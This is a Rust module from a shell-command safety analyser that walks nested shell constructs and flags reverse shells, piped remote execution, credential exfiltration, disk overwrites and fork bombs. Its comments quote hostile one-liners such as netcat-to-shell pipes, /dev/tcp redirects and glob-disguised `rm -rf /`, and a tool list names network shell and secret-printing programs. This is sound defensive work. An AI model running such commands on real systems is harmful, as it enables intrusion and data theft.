//! Walks a parsed script through every nesting form (subshells, groups,
//! substitutions, `bash -c`, `eval`, here-documents, pipelines into shells)
//! and applies the rule tables to each unwrapped simple command.

use super::ast::{Command, Part, Pipeline, RedirKind, Redirect, Script, Simple, Word};
use super::expand::{expand, expand_with, expand_words_with, printed_text, Arg};
use super::interp::{self, Deletion, Lang, Lit, Payload};
use super::parser::{parse, parse_dquoted};
use super::paths::is_block_device;
use super::remote::{interpreter, invocation, is_source, Interp};
use super::state::ScriptState;
use super::wrappers::{basename, join, unwrap};
use super::write_rules::{self, Place, WriteMode};
use super::{
    dedup, evasion_rules, exfil, feed, fs_rules, net_rules, sql, sql_client, tool_rules, Category,
    RuleCtx, ShellFinding, ShellOptions, SimpleCommand, MAX_COMMANDS, MAX_DEPTH, MAX_FINDINGS,
};

pub(crate) struct Walker<'o> {
    opts: &'o ShellOptions,
    cwd: Option<&'o str>,
    /// Analysing a container or remote payload (no working directory).
    foreign: bool,
    findings: Vec<ShellFinding>,
    too_complex: bool,
    state: ScriptState,
    /// First credential file read anywhere in the command, described.
    secret_read: Option<String>,
    /// First command printing secrets not read from a file (`env`, `gh auth token`).
    env_dump: Option<String>,
    /// First command that sends data to the network.
    sink: Option<String>,
    /// Every unwrapped simple command seen, when a caller asked for them.
    pub(crate) commands: Option<Vec<SimpleCommand>>,
}

/// What flows into a command's stdin from earlier in its pipeline.
#[derive(Default)]
struct Upstream {
    /// Description of a downloading/decoding command.
    remote: Option<String>,
    /// Literal text (`echo …`, `printf …`, `cat <<EOF`).
    literal: Option<String>,
    /// Protected paths the previous stage lists (`find /`, `ls ~`).
    roots: Vec<String>,
}

/// What a command sends down its pipeline.
#[derive(Default)]
struct Output {
    remote: Option<String>,
    literal: Option<String>,
    /// A raw network stream client (`nc host port`), described.
    stream_client: Option<String>,
    /// A shell that runs what it reads on stdin.
    stdin_shell: bool,
}

impl<'o> Walker<'o> {
    pub(crate) fn new(opts: &'o ShellOptions, cwd: Option<&'o str>) -> Self {
        Walker {
            opts,
            cwd,
            foreign: false,
            findings: Vec::new(),
            too_complex: false,
            state: ScriptState::default(),
            secret_read: None,
            env_dump: None,
            sink: None,
            commands: None,
        }
    }

    pub(crate) fn finish(mut self) -> Vec<ShellFinding> {
        let exfil = match (
            self.secret_read.take(),
            self.env_dump.take(),
            self.sink.take(),
        ) {
            (Some(read), _, Some(sink)) => Some(ShellFinding::new(
                "shell.credential_exfiltration",
                Category::Exfiltration,
                true,
                format!("{read} sent out by {sink}"),
            )),
            (None, Some(dump), Some(sink)) => Some(ShellFinding::new(
                "shell.environment_exfiltration",
                Category::Exfiltration,
                true,
                format!("secrets printed by {dump} sent out by {sink}"),
            )),
            (Some(read), _, None) => Some(
                ShellFinding::new(
                    "shell.credential_read",
                    Category::CredentialAccess,
                    false,
                    read,
                )
                .needs_approval(),
            ),
            _ => None,
        };
        if let Some(f) = exfil {
            self.push(f);
        }
        dedup(&mut self.findings);
        self.findings
    }

    fn push(&mut self, f: ShellFinding) {
        if self.findings.len() < MAX_FINDINGS * 4 {
            self.findings.push(f);
        }
    }

    fn remote(&mut self, description: String) {
        self.push(ShellFinding::new(
            "shell.remote_pipe_exec",
            Category::RemoteCode,
            false,
            description,
        ));
    }

    fn flag_too_complex(&mut self) {
        if !self.too_complex {
            self.too_complex = true;
            self.push(ShellFinding::destructive(
                "shell.too_complex",
                false,
                format!("command nesting exceeds {MAX_DEPTH} levels"),
            ));
        }
    }

    /// Parses and analyses shell text found at nesting `depth`.
    pub(crate) fn run_text(&mut self, text: &str, depth: usize) {
        if depth >= MAX_DEPTH {
            self.flag_too_complex();
            return;
        }
        match parse(text, depth) {
            Ok(script) => self.script(&script, depth),
            Err(_) => self.flag_too_complex(),
        }
    }

    fn script(&mut self, script: &Script, depth: usize) {
        if depth >= MAX_DEPTH {
            self.flag_too_complex();
            return;
        }
        for p in &script.pipelines {
            self.pipeline(p, depth);
        }
    }

    fn pipeline(&mut self, p: &Pipeline, depth: usize) {
        let mut up = Upstream::default();
        let last = p.commands.len().saturating_sub(1);
        let (mut socket, mut shell) = (None, false);
        for (i, cmd) in p.commands.iter().enumerate() {
            if i > 0 {
                self.fed(cmd, &up.roots, depth);
            }
            let out = self.command(cmd, depth, &up, i < last);
            if up.remote.is_none() {
                up.remote = out.remote;
            }
            up.literal = out.literal;
            socket = socket.or(out.stream_client);
            shell |= out.stdin_shell;
            up.roots = if i < last {
                self.enumerated(cmd, std::mem::take(&mut up.roots))
            } else {
                Vec::new()
            };
        }
        // `nc host port | sh`, `mkfifo f; cat f | sh -i | nc host port > f`.
        if let (Some(client), true) = (socket, shell) {
            self.push(net_rules::reverse_shell_finding(&format!(
                "shell piped to or from {client}"
            )));
        }
    }

    /// Protected paths a pipeline stage lists on stdout (a filter such as
    /// `grep` passes on the paths it was given, `input`).
    fn enumerated(&self, cmd: &Command, input: Vec<String>) -> Vec<String> {
        let Command::Simple(s) = cmd else {
            return Vec::new();
        };
        let args = expand_words_with(&s.words, Some(&self.state.vars));
        let start = unwrap(&args).start;
        match args.get(start..).and_then(|c| c.split_first()) {
            Some((first, _)) if feed::is_filter(basename(&first.value)) => input,
            Some((first, rest)) => feed::enumerated_roots(basename(&first.value), rest, self.cwd),
            None => Vec::new(),
        }
    }

    /// A stage whose appended arguments (`xargs`, `parallel`) are the
    /// protected paths `roots`, or unknown: analysed with them put in.
    fn fed(&mut self, cmd: &Command, roots: &[String], depth: usize) {
        // The stage is analysed twice (as written and fed): only near the
        // top, so nested feeds cannot double the work level after level.
        let Command::Simple(s) = cmd else {
            return;
        };
        if depth >= MAX_DEPTH / 4 {
            return;
        }
        let args = expand_words_with(&s.words, Some(&self.state.vars));
        let un = unwrap(&args);
        let (Some(wrappers), Some(payload)) = (args.get(..un.start), args.get(un.start..)) else {
            return;
        };
        if !un.appended || payload.is_empty() {
            return;
        }
        let consumer = feed::consumer(wrappers);
        // One root is enough to judge the stage, and keeps nesting linear.
        let input = match roots.first() {
            Some(root) => root.as_str(),
            None if consumer.scripted(payload) => feed::UNKNOWN_INPUT,
            None => return,
        };
        let fed = feed::substitute(payload, consumer.repl.as_deref(), input);
        if let Some(f) = roots
            .first()
            .and_then(|r| feed::deletion(&fed, r, self.cwd))
        {
            self.push(f);
        }
        if consumer.parallel {
            self.run_text(&join(&fed), depth + 1);
        }
        self.argv(&fed, depth + 1, None, None, false);
    }

    /// `piped`: the output feeds a later pipeline stage.
    fn command(&mut self, cmd: &Command, depth: usize, up: &Upstream, piped: bool) -> Output {
        match cmd {
            Command::Simple(s) => self.simple(s, depth, up),
            Command::Subshell { body, redirects } | Command::Group { body, redirects } => {
                self.redirects(redirects, depth);
                self.script(body, depth + 1);
                Output {
                    remote: (piped && super::remote::script_fetches(body, depth))
                        .then(|| "(downloaded content)".to_string()),
                    ..Output::default()
                }
            }
            Command::Function { name, body } => {
                if is_fork_bomb(name, body, 0) {
                    self.push(ShellFinding::destructive(
                        "shell.fork_bomb",
                        true,
                        format!("fork bomb: function {name} spawns itself"),
                    ));
                }
                self.command(body, depth + 1, &Upstream::default(), false);
                Output::default()
            }
        }
    }

    fn word_substs(&mut self, word: &Word, depth: usize) {
        for part in word.parts() {
            match part {
                Part::Subst(s) | Part::ProcSubst(s) => self.script(s, depth + 1),
                Part::Param(p) => {
                    for s in &p.nested {
                        self.script(s, depth + 1);
                    }
                }
                Part::Arith(scripts) => {
                    for s in scripts {
                        self.script(s, depth + 1);
                    }
                }
                _ => {}
            }
        }
    }

    /// Checks redirections; returns here-document / here-string text.
    fn redirects(&mut self, redirects: &[Redirect], depth: usize) -> Option<String> {
        let mut stdin = None;
        for r in redirects {
            self.word_substs(&r.target, depth);
            match r.kind {
                RedirKind::HereDoc { .. } => {
                    if let Some(h) = &r.heredoc {
                        if h.expand && (h.body.contains('$') || h.body.contains('`')) {
                            self.heredoc_substs(&h.body, depth);
                        }
                        stdin = Some(h.body.clone());
                    }
                }
                RedirKind::HereString => stdin = Some(expand(&r.target).value.into_owned()),
                kind => {
                    let target = expand_with(&r.target, Some(&self.state.vars));
                    if self.socket_redirect(&target.value, kind) {
                        continue;
                    }
                    if kind == RedirKind::Read {
                        stdin = None;
                        self.redirect_read(target);
                    } else {
                        self.redirect_write(&target, kind);
                    }
                }
            }
        }
        stdin
    }

    /// `< file`: reading a credential file counts like `cat file`.
    fn redirect_read(&mut self, target: Arg<'_>) {
        let place = self.place();
        if let Some(file) = exfil::credential_read("<", &[target], &place) {
            self.secret_read.get_or_insert(format!("< {file}"));
        }
    }

    /// `> file`, `>> file`, `<> file`, `>& file`: a block device or a guarded location.
    fn redirect_write(&mut self, target: &Arg<'_>, kind: RedirKind) {
        if is_block_device(&target.value) {
            self.push(ShellFinding::destructive(
                "shell.disk_overwrite",
                true,
                format!("> {}", target.value),
            ));
            return;
        }
        if is_fd_number(&target.value) {
            return;
        }
        if kind != RedirKind::Append && evasion_rules::is_history_file(&target.value) {
            let seen = format!("> {}", target.value);
            self.push(evasion_rules::tamper(seen));
            return;
        }
        let mode = if kind == RedirKind::Append {
            WriteMode::Append
        } else {
            WriteMode::Overwrite
        };
        let seen = format!("{} {}", redirect_op(kind), target.value);
        let mut found = Vec::new();
        write_rules::check_target(target, mode, &self.place(), &seen, &mut found);
        found.into_iter().for_each(|f| self.push(f));
    }

    /// A file written earlier in this command with literal text and now
    /// run (`./x.sh`, `bash x.sh`, `. x.sh`): its text is the command.
    fn run_written(&mut self, name: &str, first: &Arg<'_>, rest: &[Arg<'_>], depth: usize) {
        let operand = match interpreter(name) {
            Some(kind) if kind == Interp::Shell => invocation(kind, rest).operand,
            _ if matches!(name, "source" | ".") => rest.first(),
            _ => Some(first),
        };
        if let Some(text) = operand.and_then(|a| self.state.take_written_text(a)) {
            self.run_text(&text, depth + 1);
        }
    }

    /// `/???/r? -rf /`: a command name spelled as a glob runs whichever
    /// program it matches; analyse it as each dangerous one it can match.
    fn glob_command(
        &mut self,
        pattern: &str,
        rest: &[Arg<'_>],
        depth: usize,
        stdin: Option<&str>,
        remote_in: Option<&str>,
    ) {
        for tool in GLOBBABLE_TOOLS.iter().filter(|t| glob_matches(pattern, t)) {
            let mut argv = vec![Arg::literal(tool)];
            argv.extend(rest.iter().cloned());
            self.argv(&argv, depth + 1, stdin, remote_in, false);
        }
    }

    /// Wrappers that reach the network or print the environment themselves:
    /// `ssh host CMD` connects to `host`; a bare `env` prints everything.
    fn wrapper_network(&mut self, wrappers: &[Arg<'_>], args: &[Arg<'_>]) {
        for (i, w) in wrappers.iter().enumerate() {
            let name = basename(&w.value);
            let rest = args.get(i + 1..).unwrap_or_default();
            if name == "ssh" {
                let seen = join(args);
                for dest in net_rules::destinations(name, rest) {
                    if let Some(f) = net_rules::judge_destination(self.opts, &dest, &seen) {
                        self.push(f);
                    }
                }
                self.sink.get_or_insert(seen);
            }
        }
        let only_wrappers = wrappers.len() == args.len();
        if let Some(last) = wrappers.last().filter(|_| only_wrappers) {
            if basename(&last.value) == "env" {
                self.env_dump.get_or_insert_with(|| join(args));
            }
        }
    }

    /// `>& /dev/tcp/host/port`: bash opens a socket; with a shell's streams
    /// on it that is a reverse shell, and anything written goes out.
    fn socket_redirect(&mut self, target: &str, kind: RedirKind) -> bool {
        if !(target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/")) {
            return false;
        }
        let shown = format!("{} {target}", redirect_op(kind));
        self.push(net_rules::reverse_shell_finding(&format!(
            "shell streams redirected to a network socket: {shown}"
        )));
        self.sink.get_or_insert(shown);
        true
    }

    /// Command substitutions in an unquoted-delimiter here-document run.
    fn heredoc_substs(&mut self, body: &str, depth: usize) {
        match parse_dquoted(body, depth + 1) {
            Ok(word) => self.word_substs(&word, depth),
            Err(_) => self.flag_too_complex(),
        }
    }

    /// Where relative paths of the current command resolve.
    fn place(&self) -> Place<'_> {
        Place {
            base: self.state.base.as_deref(),
            cwd: self.cwd,
            configured: &self.opts.protected_paths,
        }
    }

    fn simple(&mut self, s: &Simple, depth: usize, up: &Upstream) -> Output {
        for w in s.assigns.iter().chain(&s.words) {
            self.word_substs(w, depth);
        }
        let here = self.redirects(&s.redirects, depth);
        let stdin = here.or_else(|| up.literal.clone());
        let args = expand_words_with(&s.words, Some(&self.state.vars));
        for w in &s.assigns {
            let a = expand_with(w, Some(&self.state.vars));
            let mut found = Vec::new();
            evasion_rules::check_assignment(&a, &mut found);
            found.into_iter().for_each(|f| self.push(f));
            if args.is_empty() {
                self.state.assign(&a);
            }
        }
        let out = self.argv(&args, depth, stdin.as_deref(), up.remote.as_deref(), false);
        if let Some(text) = &out.literal {
            for r in &s.redirects {
                if matches!(r.kind, RedirKind::Write | RedirKind::Append) {
                    let target = expand(&r.target).value;
                    self.state
                        .wrote_text(&target, text, r.kind == RedirKind::Append);
                    // A login shell runs what is written into its start-up files.
                    if is_shell_startup_file(&target) {
                        self.run_text(text, depth + 1);
                    }
                }
            }
        }
        if out.remote.is_some() {
            for r in &s.redirects {
                if matches!(r.kind, RedirKind::Write | RedirKind::Append) {
                    let target = expand(&r.target).value;
                    self.state.downloaded_to(&target);
                }
            }
        }
        out
    }

    /// Analyses one argument vector: unwraps it, follows nested code, applies rules.
    fn argv(
        &mut self,
        args: &[Arg<'_>],
        depth: usize,
        stdin: Option<&str>,
        remote_in: Option<&str>,
        appended_in: bool,
    ) -> Output {
        if depth >= MAX_DEPTH {
            self.flag_too_complex();
            return Output::default();
        }
        let un = unwrap(args);
        if un.foreign && !self.foreign {
            // A container or remote payload: its paths are not ours.
            let cwd = self.cwd.take();
            self.foreign = true;
            let out = self.argv(args, depth, stdin, remote_in, appended_in);
            (self.cwd, self.foreign) = (cwd, false);
            return out;
        }
        for f in &un.findings {
            self.push(f.clone());
        }
        for text in &un.scripts {
            self.run_text(text, depth + 1);
        }
        // `ssh` stops unwrapping at itself: include the command at `start`.
        let wrappers = args.get(..(un.start + 1).min(args.len()));
        self.wrapper_network(wrappers.unwrap_or_default(), args);
        let cmd = args.get(un.start..).unwrap_or_default();
        let Some((first, rest)) = cmd.split_first() else {
            return Output::default();
        };
        if un.no_exec {
            return Output::default();
        }
        let name = basename(&first.value);
        if let Some(seen) = self.commands.as_mut().filter(|s| s.len() < MAX_COMMANDS) {
            let wrappers = args.get(..un.start).unwrap_or_default();
            seen.push(SimpleCommand::new(name, rest, wrappers, depth));
        }
        // Built eagerly only where a finding or pattern check needs it.
        let desc = || join(cmd);
        if first.fetches {
            self.remote(format!(
                "downloaded content executed as a command: {}",
                desc()
            ));
        }
        if self.state.runs_downloaded(first) {
            self.remote(format!("downloaded file executed: {}", desc()));
        }
        if !self.opts.extra_patterns.is_empty() {
            let joined = desc();
            for re in &self.opts.extra_patterns {
                if re.is_match(&joined) {
                    let f = ShellFinding::destructive("policy.extra_pattern", false, &joined);
                    self.push(f);
                }
            }
        }
        if let Some(kind) = interpreter(name) {
            self.interpreter(kind, cmd, depth, stdin, remote_in);
        }
        self.run_written(name, first, rest, depth);
        if is_glob(name) {
            self.glob_command(name, rest, depth, stdin, remote_in);
        }
        match name {
            "eval" => {
                if rest.iter().any(|a| a.fetches) {
                    self.remote(desc());
                }
                self.run_text(&join(rest), depth + 1);
            }
            "source" | "." => match rest.first() {
                Some(a) if a.fetches => self.remote(desc()),
                Some(a) if a.value == "/dev/stdin" => {
                    if let Some(src) = remote_in {
                        self.remote(format!("{src} | {}", desc()));
                    }
                }
                _ => {}
            },
            "find" => {
                for inner in fs_rules::find_exec_commands(rest) {
                    self.argv(inner, depth + 1, None, None, false);
                }
            }
            "cd" | "pushd" => self.state.change_dir(rest),
            // What a crontab installs runs later, unattended: analyse it now.
            "crontab" => {
                let file = rest.iter().find(|a| !a.value.starts_with('-'));
                let text = match file {
                    Some(f) => self.state.take_written_text(f),
                    None if rest.iter().any(|a| a.value == "-") || rest.is_empty() => {
                        stdin.map(String::from)
                    }
                    None => None,
                };
                if let Some(text) = text {
                    self.run_text(&crontab_commands(&text), depth + 1);
                }
            }
            // An alias runs its text wherever it is used.
            "alias" => {
                for a in rest {
                    if let Some((_, text)) = a.value.split_once('=') {
                        self.run_text(text, depth + 1);
                    }
                }
            }
            "export" | "declare" | "typeset" | "local" | "readonly" => {
                for a in rest.iter().filter(|a| a.value.contains('=')) {
                    self.state.assign(a);
                }
            }
            _ => {}
        }
        if matches!(name, "source" | ".")
            && rest.first().is_some_and(|a| self.state.runs_downloaded(a))
        {
            self.remote(format!("downloaded file executed: {}", desc()));
        }
        if let Some(client) = sql_client::client(name, rest) {
            let mut texts = client.texts;
            if client.reads_stdin {
                texts.extend(stdin.map(String::from));
            }
            for text in texts {
                for f in sql::analyze(&text) {
                    self.push(f);
                }
            }
        }
        let ctx = RuleCtx {
            name,
            args: rest,
            appended: appended_in || un.appended,
            opts: self.opts,
            cwd: self.cwd,
            foreign: self.foreign,
            base: self.state.base.as_deref(),
            cmd,
        };
        let mut found = Vec::new();
        fs_rules::check(&ctx, &mut found);
        tool_rules::check(&ctx, &mut found);
        let place = self.place();
        write_rules::check(&ctx, &place, &mut found);
        evasion_rules::check(&ctx, &mut found);
        net_rules::check(&ctx, &mut found);
        let secret = exfil::credential_read(name, rest, &place);
        let appended = ctx.appended;
        for f in found {
            self.push(f);
        }
        if let Some(file) = secret {
            self.secret_read
                .get_or_insert_with(|| format!("{name} reads {file}"));
        }
        if exfil::prints_secrets(name, rest) {
            self.env_dump.get_or_insert_with(desc);
        }
        if exfil::is_sink(name, rest, appended) {
            self.sink.get_or_insert_with(desc);
        }
        let stdin_shell =
            interpreter(name) == Some(Interp::Shell) && invocation(Interp::Shell, rest).reads_stdin;
        let source = is_source(name, rest);
        if source {
            self.state.record_downloads(name, rest);
        }
        // `echo "$(curl …)" | sh` pipes downloaded text just like curl itself.
        let relays = matches!(name, "echo" | "printf") && rest.iter().any(|a| a.fetches);
        Output {
            remote: (source || relays).then(desc),
            literal: printed_text(name, rest, stdin),
            stream_client: net_rules::is_stream_client(name, rest).then(desc),
            stdin_shell,
        }
    }

    fn interpreter(
        &mut self,
        kind: Interp,
        cmd: &[Arg<'_>],
        depth: usize,
        stdin: Option<&str>,
        remote_in: Option<&str>,
    ) {
        let inv = invocation(kind, cmd.get(1..).unwrap_or_default());
        if let Some(code) = inv.code {
            if code.fetches {
                self.remote(join(cmd));
            }
            if kind == Interp::Shell {
                self.run_text(&code.value, depth + 1);
            }
        }
        if let Some(lang) = kind.lang() {
            for code in &inv.codes {
                self.interp_code(lang, code, depth + 1);
            }
        }
        if inv.operand.is_some_and(|a| a.fetches) {
            self.remote(join(cmd));
        }
        if inv.operand.is_some_and(|a| self.state.runs_downloaded(a)) {
            self.remote(format!("downloaded file executed: {}", join(cmd)));
        }
        if inv.reads_stdin {
            if let Some(src) = remote_in {
                self.remote(format!("{src} | {}", join(cmd)));
            }
            match (kind, kind.lang(), stdin) {
                (Interp::Shell, _, Some(text)) => self.run_text(text, depth + 1),
                (_, Some(lang), Some(text)) => self.interp_code(lang, text, depth + 1),
                _ => {}
            }
        }
    }

    /// Analyses interpreter code: the commands it spawns go through the
    /// shell analyser, the paths it deletes through the `rm` rules.
    fn interp_code(&mut self, lang: Lang, code: &str, depth: usize) {
        if depth >= MAX_DEPTH {
            self.flag_too_complex();
            return;
        }
        let payload = interp::analyse(lang, code);
        for text in &payload.commands {
            self.run_text(text, depth + 1);
        }
        for d in &payload.deletions {
            self.interp_deletion(lang, d);
        }
        for nested in &payload.nested {
            self.interp_code(lang, nested, depth + 1);
        }
        if let Some(desc) = &payload.reverse_shell {
            self.push(net_rules::reverse_shell_finding(desc));
        }
        self.interp_io(lang, &payload);
    }

    /// Files and hosts interpreter code touches, under the same rules as the
    /// shell's `tee`, `cat` and `curl`.
    fn interp_io(&mut self, lang: Lang, payload: &Payload) {
        let seen = |what: &str, lit: &Lit| format!("{}: {what} {}", lang.name(), lit.shell_text());
        for (path, append) in &payload.writes {
            let mode = if *append {
                WriteMode::Append
            } else {
                WriteMode::Overwrite
            };
            let mut found = Vec::new();
            let target = lit_arg(path);
            let what = if *append { "appends to" } else { "writes" };
            write_rules::check_target(&target, mode, &self.place(), &seen(what, path), &mut found);
            found.into_iter().for_each(|f| self.push(f));
        }
        for path in &payload.reads {
            let place = self.place();
            if let Some(file) = exfil::credential_read("<", &[lit_arg(path)], &place) {
                self.secret_read
                    .get_or_insert_with(|| format!("{} reads {file}", lang.name()));
            }
        }
        for dest in &payload.destinations {
            if dest.is_dynamic() {
                continue;
            }
            let text = dest.with_dyn("");
            if let Some(f) = net_rules::judge_destination(self.opts, &text, &seen("reaches", dest))
            {
                self.push(f);
            }
        }
        if let Some(call) = &payload.sends {
            self.sink
                .get_or_insert_with(|| format!("{}: {call}", lang.name()));
        }
    }

    /// A path deleted by interpreter code, judged as `rm [-r] -- PATH`.
    fn interp_deletion(&mut self, lang: Lang, d: &Deletion) {
        let mut args = vec![Arg::literal("--"), lit_arg(&d.path)];
        if d.recursive {
            args.insert(0, Arg::literal("-r"));
        }
        let desc = [Arg::owned(format!("{}: {}", lang.name(), d.call))];
        let ctx = RuleCtx {
            name: "rm",
            args: &args,
            appended: false,
            opts: self.opts,
            cwd: self.cwd,
            foreign: self.foreign,
            base: self.state.base.as_deref(),
            cmd: &desc,
        };
        let mut found = Vec::new();
        fs_rules::check(&ctx, &mut found);
        for f in found {
            self.push(f);
        }
    }
}

/// An interpreter string as a shell argument: its non-literal parts are an
/// unknown variable, which may be empty.
fn lit_arg(lit: &Lit) -> Arg<'static> {
    if lit.is_dynamic() {
        Arg {
            value: lit.shell_text().into(),
            if_empty: Some(lit.with_dyn("")),
            dynamic: true,
            ..Arg::default()
        }
    } else {
        Arg::owned(lit.with_dyn(""))
    }
}

/// Files a shell reads at login or start-up (`~/.bashrc`, `~/.profile`, …).
fn is_shell_startup_file(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    matches!(
        name,
        ".bashrc"
            | ".bash_profile"
            | ".bash_login"
            | ".bash_logout"
            | ".profile"
            | ".zshrc"
            | ".zprofile"
            | ".zshenv"
            | ".zlogin"
            | ".kshrc"
            | ".mkshrc"
            | "config.fish"
    )
}

/// The commands of crontab lines: each line without its schedule
/// (five time fields, or one `@reboot`-style word); comments and
/// `NAME=value` lines skipped.
fn crontab_commands(text: &str) -> String {
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .filter(|l| {
            let first = l.split_whitespace().next().unwrap_or_default();
            !first.contains('=') || first.starts_with('@')
        })
        .map(|l| {
            let fields = if l.starts_with('@') { 1 } else { 5 };
            l.split_whitespace()
                .skip(fields)
                .collect::<Vec<_>>()
                .join(" ")
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Programs a globbed command name is tried as.
const GLOBBABLE_TOOLS: &[&str] = &[
    "rm", "dd", "mkfs", "shred", "wipefs", "mv", "cp", "chmod", "chown", "tee", "kill", "find",
    "nc", "ncat", "socat", "telnet", "curl", "wget", "bash", "sh", "dash", "zsh", "python",
    "python3", "perl", "ruby", "php", "node", "git", "cat", "base64", "xxd", "env", "printenv",
];

/// A glob with at least one literal letter (`r?`, `/bin/[r]m`): a bare `*`
/// (a `case` pattern, an unquoted argument list) names no program.
fn is_glob(name: &str) -> bool {
    name.contains(['*', '?', '['])
        && !name.ends_with(')')
        && name
            .split(['[', ']'])
            .step_by(2)
            .any(|outside| outside.chars().any(|c| c.is_ascii_alphanumeric()))
}

/// Shell pattern matching on a name: `*`, `?` and `[…]` classes (`!`/`^` negate).
fn glob_matches(pattern: &str, name: &str) -> bool {
    fn go(p: &[char], n: &[char], budget: &mut usize) -> bool {
        if *budget == 0 {
            return false;
        }
        *budget -= 1;
        match p.split_first() {
            None => n.is_empty(),
            Some(('*', rest)) => (0..=n.len()).any(|i| go(rest, &n[i..], budget)),
            Some(('?', rest)) => !n.is_empty() && go(rest, &n[1..], budget),
            Some(('[', rest)) => {
                let Some(close) = rest.iter().skip(1).position(|c| *c == ']').map(|i| i + 1) else {
                    return n.first() == Some(&'[') && go(rest, &n[1..], budget);
                };
                let (class, after) = (&rest[..close], &rest[close + 1..]);
                let (negate, class) = match class.split_first() {
                    Some(('!' | '^', c)) => (true, c),
                    _ => (false, class),
                };
                let Some(&c) = n.first() else { return false };
                let mut hit = false;
                let mut i = 0;
                while i < class.len() {
                    if i + 2 < class.len() && class[i + 1] == '-' {
                        hit |= class[i] <= c && c <= class[i + 2];
                        i += 3;
                    } else {
                        hit |= class[i] == c;
                        i += 1;
                    }
                }
                hit != negate && go(after, &n[1..], budget)
            }
            Some((c, rest)) => n.first() == Some(c) && go(rest, &n[1..], budget),
        }
    }
    let p: Vec<char> = pattern.chars().take(64).collect();
    let n: Vec<char> = name.chars().collect();
    go(&p, &n, &mut 10_000)
}

/// `2>&1`, `>&-`: a descriptor, not a file.
fn is_fd_number(target: &str) -> bool {
    target == "-" || (!target.is_empty() && target.bytes().all(|b| b.is_ascii_digit()))
}

fn redirect_op(kind: RedirKind) -> &'static str {
    match kind {
        RedirKind::Append => ">>",
        RedirKind::ReadWrite => "<>",
        RedirKind::Dup => ">&",
        _ => ">",
    }
}

/// A function whose body runs itself in a pipeline or in the background.
fn is_fork_bomb(name: &str, body: &Command, depth: usize) -> bool {
    if name.is_empty() || depth >= MAX_DEPTH {
        return false;
    }
    let calls_self = |c: &Command| match c {
        Command::Simple(s) => s.words.first().is_some_and(|w| {
            let v = expand(w).value;
            basename(&v) == name
        }),
        _ => false,
    };
    match body {
        Command::Group { body, .. } | Command::Subshell { body, .. } => {
            body.pipelines.iter().any(|p| {
                let spawns =
                    p.commands.iter().any(calls_self) && (p.commands.len() >= 2 || p.background);
                spawns || p.commands.iter().any(|c| is_fork_bomb(name, c, depth + 1))
            })
        }
        Command::Simple(_) | Command::Function { .. } => false,
    }
}
